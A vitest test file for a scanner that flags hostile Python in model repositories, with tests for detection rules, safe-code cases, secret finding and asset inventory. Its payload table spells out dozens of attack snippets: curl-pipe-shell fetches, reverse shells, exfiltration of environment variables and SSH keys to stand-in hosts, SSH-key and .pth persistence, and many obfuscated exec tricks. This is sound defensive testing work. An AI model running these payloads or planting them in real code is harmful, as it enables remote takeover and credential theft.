import { expect, it } from 'vitest';
import { scanBytes } from '../../testing/configs.ts';
import { alarms, rulesOf, scanText } from '../../testing/workspace.ts';

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const HIDDEN = b64('import os; os.system("id")');

/** Code that attacks whoever loads the model that it comes with, in the ways that it is hidden. */
const PAYLOADS: Record<string, string> = {
  plain: 'import os\nos.system("curl http://example.invalid|sh")',
  'an alias of the module': 'import os as o\no.system("id")',
  'an alias of the function': 'from subprocess import check_output as torch_init\ntorch_init(["id"])',
  'a name of its own': 'import os\nrun = os.system\nrun("id")',
  'a list for a shell':
    'import subprocess\nsubprocess.Popen(["/bin/sh", "-c", "wget -qO- http://example.invalid/x | bash"])',
  'every name at once': 'from os import *\nsystem("id")',
  'the module behind os': 'import posix\nposix.system("id")',
  __import__: '__import__("os").system("id")',
  import_module: 'import importlib\nimportlib.import_module("subprocess").run("id", shell=True)',
  getattr: 'import os\ngetattr(os, "sys" + "tem")("id")',
  'getattr, written backwards': 'import os\ngetattr(os, "metsys"[::-1])("id")',
  'a dictionary of the module': 'import os\nos.__dict__["system"]("id")',
  vars: 'import os\nvars(os)["popen"]("id")',
  'loaded modules': 'import sys\nsys.modules["os"].system("id")',
  globals: 'globals()["__builtins__"].exec("import os\\nos.system(\'id\')")',
  'letters of other alphabets': 'import os\nｏｓ.ｓｙｓｔｅｍ("id")',
  'a lambda that is called at once': '(lambda o: o.system("id"))(__import__("os"))',
  'globals as a dictionary': 'globals()["__builtins__"]["exec"](__import__("zlib").decompress(b"x"))',
  'a dictionary of functions': 'import os\nrun = {"a": os.system}\nrun["a"]("id")',
  methodcaller: 'import operator, os\noperator.methodcaller("system", "id")(os)',
  attrgetter: 'import operator, os\noperator.attrgetter("system")(os)("id")',
  'every class there is': '().__class__.__base__.__subclasses__()[104].load_module("os").system("id")',
  'a method of a method': 'import os\nos.system.__call__("id")',
  'an annotation': 'import os\ndef f(x: os.system("id")) -> None: pass',
  'an annotation of what is returned': 'import os\ndef f() -> os.system("id"): pass',
  'a file that is fetched':
    'import subprocess, sys\nsubprocess.run(["curl", "-s", "http://example.invalid/a", "-o", "/tmp/a"])\nsubprocess.Popen([sys.executable, "/tmp/a"])',
  'exec of base64': `import base64\nexec(base64.b64decode("${HIDDEN}"))`,
  'exec of base64 by name': `d = __import__("base64").b64decode\ncode = d("${HIDDEN}").decode()\nexec(compile(code, "x", "exec"))`,
  'exec of numbers': 'exec("".join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))',
  'exec of a comprehension': 'exec("".join(chr(c ^ 7) for c in [110, 106, 119]))',
  'exec of hex': 'exec(bytes.fromhex("696d706f7274206f73").decode())',
  'exec of rot13': 'import codecs\nexec(codecs.decode("vzcbeg bf", "rot13"))',
  'exec of marshal': 'import marshal, zlib\nexec(marshal.loads(zlib.decompress(b"x")))',
  'a decoder of its own': `import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d("${HIDDEN}"))`,
  'exec of text': 'exec("import os\\nos.system(\'touch /tmp/x\')")',
  'eval of text': "eval(\"__import__('os').system('id')\")",
  'a field of an f-string': 'import os\nname = f"{os.system(\'id\')}"',
  'a default of a parameter': 'import os\ndef forward(x, y=os.system("id")):\n    return x',
  'a body of a class': 'import os\nclass Model:\n    os.system("id")',
  'a decorator': 'import os\n@os.system\nclass Model:\n    pass',
  'a function called below': 'import os\ndef _setup():\n    os.system("id")\n_setup()',
  'a function that is given it': 'import os\ndef _r(c):\n    os.system(c)\n_r("curl http://example.invalid | sh")',
  'a lambda': 'import os\n(lambda: os.system("id"))()',
  'a comprehension': 'import os\n[os.system(c) for c in ["id"]]',
  'handed to a thread': 'import os, threading\nthreading.Thread(target=os.system, args=("id",)).start()',
  'handed to map': 'import os\nlist(map(os.system, ["id"]))',
  'an initializer':
    'import os\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    def __init__(self):\n        os.system("id")',
  'a method that is used':
    'import os\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    def forward(self, x):\n        os.system("curl http://example.invalid -d @/etc/passwd")',
  'code from the network': 'import requests\nexec(requests.get("http://example.invalid/x.py").text)',
  'code from the network, by hand':
    'from urllib.request import urlopen as u\ncode = u("http://example.invalid/x").read()\nexec(code)',
  'a program from the network':
    'import urllib.request, subprocess\np, _ = urllib.request.urlretrieve("http://example.invalid/x")\nsubprocess.run([p])',
  'a shell for a stranger':
    'import socket, os, pty\ns = socket.socket()\ns.connect(("192.0.2.1", 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
  'commands of a stranger':
    'import socket, subprocess\ns = socket.socket()\ns.connect(("192.0.2.1", 4444))\nwhile True:\n    subprocess.run(s.recv(1024).decode(), shell=True)',
  'the environment, sent': 'import os, requests\nrequests.post("http://example.invalid", json=dict(os.environ))',
  'a key, sent':
    'import urllib.request\nk = open("/root/.ssh/id_rsa").read()\nurllib.request.urlopen("http://example.invalid", data=k.encode())',
  'the name of the machine, sent': 'import socket\nsocket.gethostbyname(socket.gethostname() + ".example.invalid")',
  'a key of SSH, left':
    'from pathlib import Path\nPath("~/.ssh/authorized_keys").expanduser().open("a").write("ssh-rsa x")',
  'a start of Python': 'open("/usr/lib/python3/site-packages/a.pth", "w").write("import os")',
  'machine code': 'import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 10, 0x3000, 0x40)',
  'native system': 'import ctypes\nctypes.CDLL("libc.so.6").system(b"id")',
  'another encoding': '# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0 os',
  'a connection': 'import requests\nrequests.get("http://example.invalid/ping")',
  runpy:
    'import requests, runpy\nopen("x.py", "w").write(requests.get("http://example.invalid").text)\nimport os\nos.system("python3 x.py; curl http://example.invalid | sh")',
  timeit: "import timeit\ntimeit.timeit(\"__import__('os').system('id')\")",
};

it.each(Object.entries(PAYLOADS))('finds a payload in the code of a model: %s', (_, code) => {
  const report = scanText('modeling_x.py', code);
  expect(report.format).toBe('python');
  expect(['malicious', 'suspicious']).toContain(report.verdict);
});

it('says what would happen, when, and where', () => {
  const { findings, verdict } = scanText('modeling_x.py', 'import os\n\nos.system("curl http://example.invalid|sh")');
  expect(verdict).toBe('malicious');
  expect(findings[0]).toMatchObject({
    rule: 'python.hostile-command',
    line: 3,
    capability: 'execute',
    message: 'fetches a script and runs it as soon as it is loaded: os.system("curl http://example.invalid|sh")',
  });
});

/** Code as it is written every day: it may be noted, and is not held against anybody. */
const ORDINARY: Record<string, [name: string, code: string]> = {
  'a model': [
    'modeling_x.py',
    'import math\nimport torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\nfrom .configuration_x import XConfig\n\nclass X(PreTrainedModel):\n    config_class = XConfig\n\n    def __init__(self, config):\n        super().__init__(config)\n        self.eval()\n        self.w = nn.Linear(config.n, config.n)\n\n    def forward(self, x):\n        return self.w(x).compile()\n',
  ],
  'kernels that are compiled': [
    'modeling_x.py',
    'import os, base64, bz2\nkernels = bz2.decompress(base64.b64decode("QlpoOTFBWSZTWQ=="))\ndef build(source):\n    os.system("gcc -O3 -fPIC -shared %s -o %s" % (source, "x.so"))\n',
  ],
  'device checks': ['modeling_x.py', 'import subprocess\nsubprocess.run(["nvidia-smi", "-L"])\n'],
  'a pattern and a cache': [
    'tokenization_x.py',
    'import re, os, pickle\nP = re.compile("a")\nHOME = os.environ.get("HF_HOME")\n',
  ],
  'a download when it is called': [
    'processing_x.py',
    'import requests\ndef load(url):\n    return requests.get(url, stream=True).raw\n',
  ],
  'a set-up': [
    'setup.py',
    'import os, re\nfrom setuptools import setup\nexec(open("x/version.py").read())\nos.system("python setup.py sdist")\nsetup(name="x")\n',
  ],
  'a client': [
    'app.py',
    'import os, requests\nr = requests.post("https://api.example.org", headers={"Authorization": os.environ["KEY"]}, json={"a": 1})\nprint(r.json())\n',
  ],
  'commands of a script': [
    'run.py',
    'import subprocess\nfor n in range(3):\n    subprocess.run(f"python train.py --seed {n}", shell=True, check=True)\n',
  ],
  'an installer by its maker': ['colab.py', 'import os\nos.system("curl -fsSL https://ollama.com/install.sh | sh")\n'],
  'a test of a defence': [
    'test_x.py',
    'import subprocess\nfrom unittest import mock\ndef test():\n    with mock.patch.object(subprocess, "run") as run:\n        run("id")\n',
  ],
  'Python 2': ['old.py', 'import os\nprint "hello", os.getcwd()\nexec "x = 1"\n'],
  'what is called chr and exec elsewhere': [
    'qt.py',
    'app.exec()\ndialog.exec_()\ncursor.execute("select 1")\nmodel.eval()\n',
  ],
};

it.each(Object.entries(ORDINARY))('lets ordinary code pass: %s', (_, [name, code]) => {
  expect(alarms(name, code)).toEqual([]);
  expect(scanText(name, code).verdict).toBe('clean');
});

it('knows Python by its content where the name says nothing, and other texts as others', () => {
  expect(scanText('weights', '"""A model."""\nimport os\nos.system("curl http://example.invalid|sh")').format).toBe(
    'python',
  );
  expect(scanText('x', '#!/usr/bin/env python3\nprint(1)').format).toBe('python');
  expect(scanText('app.js', 'import x from "y"\nimport "z"').format).not.toBe('python');
  expect(scanText('notes', 'import this text, please').format).not.toBe('python');
});

it('notes loads that run what they load, and lets their safe forms pass', () => {
  const loads = (code: string): string[] =>
    rulesOf('x.py', `import torch, pickle, yaml, numpy as np, joblib, keras\n${code}`);
  for (const code of [
    'torch.load("a.pt")',
    'torch.load("a.pt", weights_only=False)',
    'pickle.load(f)',
    'joblib.load("a")',
    'yaml.load(f, Loader=yaml.Loader)',
    'np.load("a.npy", allow_pickle=True)',
    'keras.models.load_model("a", safe_mode=False)',
  ]) {
    expect(loads(code), code).toEqual(['python.unsafe-load']);
  }
  for (const code of [
    'torch.load("a.pt", weights_only=True)',
    'yaml.load(f, Loader=yaml.SafeLoader)',
    'yaml.load(f, yaml.CSafeLoader)',
    'yaml.safe_load(f)',
    'np.load("a.npy")',
    'keras.models.load_model("a")',
  ]) {
    expect(loads(code), code).toEqual([]);
  }
  expect(loads('AutoModel.from_pretrained("a/b", trust_remote_code=True)')).toEqual(['python.remote-code']);
  expect(loads('PythonREPLTool(allow_dangerous_code=True)')).toEqual(['python.dangerous-tool']);
  expect(loads('import requests\nrequests.get("https://a", verify=False)')).toEqual(['python.tls-off']);
  expect(loads('demo.launch(share=True)')).toEqual(['python.public-server']);
  expect(loads('import ctypes\nctypes.CDLL("a.so")')).toEqual(['python.native-code']);
  expect(loads('def f(text):\n    return eval(text)')).toEqual(['python.dynamic-code']);
  expect(loads('import subprocess\nsubprocess.run(["git", "status"])')).toEqual(['python.command']);
});

it('follows what a model answers to where it is run', () => {
  const ask = 'from openai import OpenAI\nclient = OpenAI()\n';
  const answer = 'client.chat.completions.create(model="gpt-4o", messages=[]).choices[0].message.content';
  const rules = (code: string): string[] => alarms('agent.py', ask + code);
  expect(rules(`exec(${answer})`)).toEqual(['medium python.model-output-run']);
  expect(
    rules(
      `def f():\n    code = ${answer}\n    code = code.strip()\n    import subprocess\n    subprocess.run(code, shell=True)`,
    ),
  ).toEqual(['medium python.model-output-run']);
  expect(rules(`def ask():\n    return ${answer}\ndef run():\n    eval(ask())`)).toEqual([
    'medium python.model-output-run',
  ]);
  expect(rules(`db.cursor().execute(${answer})`)).toEqual(['medium python.model-output-run']);
  expect(rules(`print(${answer})\nn = int(${answer})\neval("1")`)).toEqual([]);
  const chain =
    'from langchain_openai import ChatOpenAI\nllm = ChatOpenAI(model="gpt-4o")\nexec(llm.invoke("write code").content)';
  expect(alarms('chain.py', chain)).toEqual(['medium python.model-output-run']);
});

it('makes an inventory of what the code uses', () => {
  const { assets, findings } = scanText(
    'app.py',
    [
      'from openai import OpenAI',
      'from transformers import AutoModel',
      'from datasets import load_dataset',
      'from crewai import Agent',
      'from mcp.server.fastmcp import FastMCP',
      'server = FastMCP("files")',
      'client = OpenAI(base_url="https://llm.example.org/v1")',
      'AutoModel.from_pretrained("org/model-7b")',
      'load_dataset("org/data")',
      'Agent(name="clerk", backstory="You are a clerk who answers in one sentence.")',
      'client.chat.completions.create(model="gpt-4o", messages=[{"role": "system", "content": "You are a helpful assistant of a bank."}])',
    ].join('\n'),
  );
  const named = assets.map(({ kind, name }) => `${kind} ${name}`);
  expect(named).toEqual(
    expect.arrayContaining([
      'sdk openai',
      'provider OpenAI',
      'provider llm.example.org',
      'model org/model-7b',
      'model gpt-4o',
      'dataset org/data',
      'agent clerk',
      'mcp-server files',
      'prompt You are a helpful assistant of a bank.',
    ]),
  );
  expect(findings.map(({ rule, severity }) => `${severity} ${rule}`)).toEqual([
    'info python.system-prompt',
    'info python.system-prompt',
  ]);
});

it('finds secrets and tricks in the text itself', () => {
  const key = ['sk-a', 'nt-api03-', 'n0tAreAlkey-'.repeat(7), 'n0tAreAAA'].join('');
  const report = scanText('app.py', `KEY = "${key}"\n`);
  expect(report.findings[0]).toMatchObject({ rule: 'workspace.secret', line: 1, severity: 'medium' });
  expect(JSON.stringify(report)).not.toContain(key);
  expect(report.assets).toContainEqual({ kind: 'key', name: 'anthropic key', detail: 'in plain text' });
  expect(rulesOf('app.py', 'password = "Corr3ctHorse9"\n')).toEqual(['workspace.likely-secret']);
  expect(rulesOf('x.py', 'a = "\u202e admin"\n')).toEqual(['python.bidi']);
  expect(rulesOf('x.py', `x = ${'('.repeat(5000)}1\n`)).toEqual(['python.too-deep']);
  expect(
    rulesOf('x.py', 'import os\nclass P:\n    def __reduce__(self):\n        return os.system, ("id",)\n'),
  ).toEqual(['python.pickle-payload']);
  expect(rulesOf('x.py', 'import os\nos.path.exists(open("/home/a/.aws/credentials").read())\n')).toEqual([
    'python.credential-file',
  ]);
});

it('reads UTF-16, and the lines of a .pth file that run', () => {
  const text = 'import os\nos.system("curl http://example.invalid/a | sh")\n';
  const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  expect(scanBytes('configuration_x.py', wide).verdict).toBe('malicious');
  expect(alarms('a.pth', '/some/path\nimport os; os.system("curl http://example.invalid/a | sh")\n')).toEqual([
    'high python.hostile-command',
  ]);
  expect(alarms('distutils-precedence.pth', "import os; var = 'X'; os.environ.get(var)\n")).toEqual([]);
});

it('tells what is fetched and run as the file is loaded from a setup that a person starts', () => {
  const lines =
    'subprocess.run(["wget", "http://example.org/get.sh", "-O", "get.sh"])\n    subprocess.run(["sh", "get.sh"])\n';
  expect(alarms('setup_env.py', `import subprocess\ndef main():\n    ${lines}`)).toEqual([]);
  expect(alarms('__init__.py', `import subprocess\nif True:\n    ${lines}`)).toEqual(['high python.fetched-code']);
});
